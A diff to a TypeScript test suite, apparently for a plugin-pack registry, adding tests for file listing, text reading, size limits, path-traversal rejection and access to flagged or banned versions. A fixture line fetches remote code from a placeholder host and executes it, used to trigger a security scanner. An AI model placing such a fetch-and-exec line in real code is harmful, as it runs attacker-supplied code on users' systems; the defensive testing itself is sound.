@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict'
+import { createHash } from 'node:crypto'
 import { rename } from 'node:fs/promises'
 import { before, describe, test } from 'node:test'
 
@@ -220,8 +221,9 @@ const listPayloads = (value: unknown): Buffer[] => {
   )
 }
 
+const SECRET_LINE = 'exec(requests.get("https://x.example/payload").text)'
+
 describe('a pack with a finding of high severity', () => {
-  const SECRET_LINE = 'exec(requests.get("https://x.example/payload").text)'
   let bad: Decided
   before(async () => {
     bad = await add(minimal(['Kiln Bad'], `import requests\n\n${SECRET_LINE}\n`))
@@ -300,6 +302,90 @@ describe('a pack with a finding of high severity', () => {
       pluck((moves as object[]).slice(1), 'from'),
       pluck((moves as object[]).slice(0, -1), 'to'),
     )
+  })
+})
+
+describe('the files of a version', () => {
+  /** Repeated bytes would be a bomb. */
+  const NUMBERS = Buffer.from(Array.from({ length: 200_000 }, (_, index) => index).join(' '))
+  const FILES: Record<string, Buffer> = {
+    '__init__.py': Buffer.from('WEB_DIRECTORY = "./web"\n'.repeat(50)),
+    'Ünï code/empty.txt': Buffer.alloc(0),
+    'bom.txt': Buffer.from([0xef, 0xbb, 0xbf, 0x63, 0xe9, 0x21]),
+    'data.csv': Buffer.from([0x61, 0, 0x62]),
+    'large.txt': NUMBERS.subarray(0, 1_048_577),
+    'most.txt': NUMBERS.subarray(0, 1_048_576),
+    'stored.txt': Buffer.from('as it is'),
+  }
+  let files: Decided
+  before(async () => {
+    const entries = Object.entries(FILES).map(([name, data]) => ({
+      name,
+      data,
+      method: name === 'stored.txt' ? 0 : 8,
+    }))
+    files = await add(writeZip(entries))
+  })
+
+  const readFile = (name: string, client = registry.anonymous) =>
+    client.get(`${files.path}/files/content?path=${encodeURIComponent(name)}`)
+
+  test('are listed with their digests, and read as text', async () => {
+    const list = await registry.anonymous.get(`${files.path}/files`)
+    const digest = (data: Buffer) => createHash('sha256').update(data).digest('hex')
+    const expected = Object.entries(FILES)
+      .map(([path, data]) => ({ path, bytes: data.length, sha256: digest(data) }))
+      .toSorted((a, b) => (a.path < b.path ? -1 : 1))
+    assert.deepEqual(expectStatus(list, 200).body, { files: expected })
+    for (const file of expected.filter(({ path }) => !['data.csv', 'large.txt'].includes(path))) {
+      const { body } = expectStatus(await readFile(file.path), 200)
+      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(FILES[file.path])
+      assert.deepEqual(body, { ...file, text }, file.path)
+    }
+    for (const path of [`${files.path}/files`, `${files.path}/files/content?path=stored.txt`]) {
+      const etag = (await registry.anonymous.get(path)).headers.get('etag') ?? ''
+      assert.equal((await registry.anonymous.get(path, { 'if-none-match': etag })).status, 304)
+    }
+  })
+
+  test('that are no text, too large or not there are told apart', async () => {
+    expectStatus(await readFile('data.csv'), 415, 'file_not_text')
+    expectStatus(await readFile('large.txt'), 413, 'file_too_large')
+    for (const name of ['none.py', '__INIT__.py', '../__init__.py', '', '/'])
+      expectStatus(await readFile(name), 404, 'file_not_found')
+    for (const query of ['', `?path=${'x'.repeat(513)}`, '?path=%00', '?path=a&path=b']) {
+      const refused = await registry.anonymous.get(`${files.path}/files/content${query}`)
+      const { details } = expectStatus(refused, 400, 'validation_failed').body
+      assert.match(details?.[0] ?? '', /^\?path/, query)
+    }
+  })
+
+  test('are for members and admins alone unless it is Active, and for nobody else once it is banned', async () => {
+    const { admin, anonymous } = registry
+    const stranger = (await registry.addUser()).client
+    const awaited = await owned.addVersion()
+    const rejected = await add(Buffer.from('PK\u{3}\u{4}no zip'))
+    const flagged = await add(minimal(['Kiln Held'], `import requests\n${SECRET_LINE}\n`))
+    for (const rest of ['/files', '/files/content?path=__init__.py']) {
+      for (const client of [owned.owner, admin]) {
+        expectStatus(await client.get(flagged.path + rest), 200)
+        for (const path of [awaited.version, rejected.path]) {
+          const code = rest === '/files' ? 'archive_not_found' : 'file_not_found'
+          expectStatus(await client.get(path + rest), 404, code)
+        }
+      }
+      for (const client of [anonymous, stranger]) {
+        expectStatus(await client.get(flagged.path + rest), 403, 'version_blocked')
+        expectStatus(await client.get(awaited.version + rest), 404, 'archive_not_found')
+      }
+    }
+    const etag = (await readFile('stored.txt')).headers.get('etag') ?? ''
+    const ban = { status: 'NodeStatusBanned', status_detail: 'malware' }
+    expectStatus(await admin.put(`/admin${files.added.node}`, ban), 200)
+    expectStatus(await readFile('stored.txt', admin), 200)
+    const path = `${files.path}/files/content?path=stored.txt`
+    for (const client of [anonymous, owned.owner])
+      expectStatus(await client.get(path, { 'if-none-match': etag }), 403, 'node_banned')
   })
 })
 
